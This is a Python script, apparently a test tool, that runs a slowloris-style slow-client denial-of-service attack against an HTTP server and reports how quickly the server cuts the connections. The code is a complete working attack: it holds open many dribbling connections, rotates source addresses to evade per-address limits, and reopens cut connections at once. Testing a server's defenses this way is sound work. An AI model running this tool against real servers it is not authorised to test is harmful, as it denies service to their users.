#!/usr/bin/env python3
"""slow-clients.py — the slow-client attack on an HTTP server (tests only).

Keeps N connections open to HOST:PORT for SECONDS, each from one of the
source addresses given (round robin), each sending the start of a POST and
then one byte of a never-ending header every DRIBBLE seconds, so that no
connection is ever idle.  A connection the server closes is opened again at
once, as an attacker would.  Writes "ready" to READY_FILE once N are open
(or after SECONDS/2 at the latest), and at the end prints one JSON line:
  opened, cut (closed by the server), open_at_end, held_1s (open at the
  end and for more than a second), max_held (the longest time the server
  let one connection live before cutting it, in seconds), peak (most open
  at once).  At most REOPEN_BURST connections are opened per round.

usage: slow-clients.py HOST PORT N SECONDS DRIBBLE READY_FILE SRC-ADDR...
"""
import errno
import json
import selectors
import socket
import sys
import time

REOPEN_BURST = 50

def main():
    host, port, n, secs, dribble, ready_file = sys.argv[1:7]
    port, n, secs, dribble = int(port), int(n), float(secs), float(dribble)
    srcs = sys.argv[7:] or ["127.0.0.1"]
    sel = selectors.DefaultSelector()
    conns = {}   # socket -> [opened_at, last_byte_at]
    stats = {"opened": 0, "cut": 0, "max_held": 0.0, "peak": 0, "refused": 0}
    nsrc = 0
    start = time.monotonic()
    ready = False

    def close(s, cut):
        opened_at = conns.pop(s)[0]
        held = time.monotonic() - opened_at
        if cut:
            stats["cut"] += 1
            stats["max_held"] = max(stats["max_held"], held)
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()

    def open_one():
        nonlocal nsrc
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((srcs[nsrc % len(srcs)], 0))
        nsrc += 1
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            stats["refused"] += 1
            s.close()
            return
        now = time.monotonic()
        conns[s] = [now, 0.0]
        sel.register(s, selectors.EVENT_READ)
        stats["opened"] += 1

    def send(s, data):
        try:
            s.send(data)
            return True
        except BlockingIOError:
            return True
        except OSError:
            close(s, True)
            return False

    while time.monotonic() - start < secs:
        for _ in range(min(n - len(conns), REOPEN_BURST)):
            before = len(conns)
            open_one()
            if len(conns) == before:
                break
        stats["peak"] = max(stats["peak"], len(conns))
        if not ready and (len(conns) >= n or time.monotonic() - start > secs / 2):
            with open(ready_file, "w") as f:
                f.write("ready %d\n" % len(conns))
            ready = True
        now = time.monotonic()
        for s, st in list(conns.items()):
            if st[1] == 0.0:
                if send(s, b"POST / HTTP/1.1\r\nHost: tsa\r\nX-Slow: "):
                    st[1] = now
            elif now - st[1] >= dribble:
                if send(s, b"a"):
                    st[1] = now
        for key, _ in sel.select(timeout=min(0.1, dribble / 4)):
            s = key.fileobj
            if s not in conns:
                continue
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                close(s, True)
    stats["open_at_end"] = len(conns)
    end = time.monotonic()
    stats["held_1s"] = sum(1 for st in conns.values() if end - st[0] > 1.0)
    stats["max_held"] = round(stats["max_held"], 2)
    for s in list(conns):
        close(s, False)
    print(json.dumps(stats, sort_keys=True))


if __name__ == "__main__":
    main()
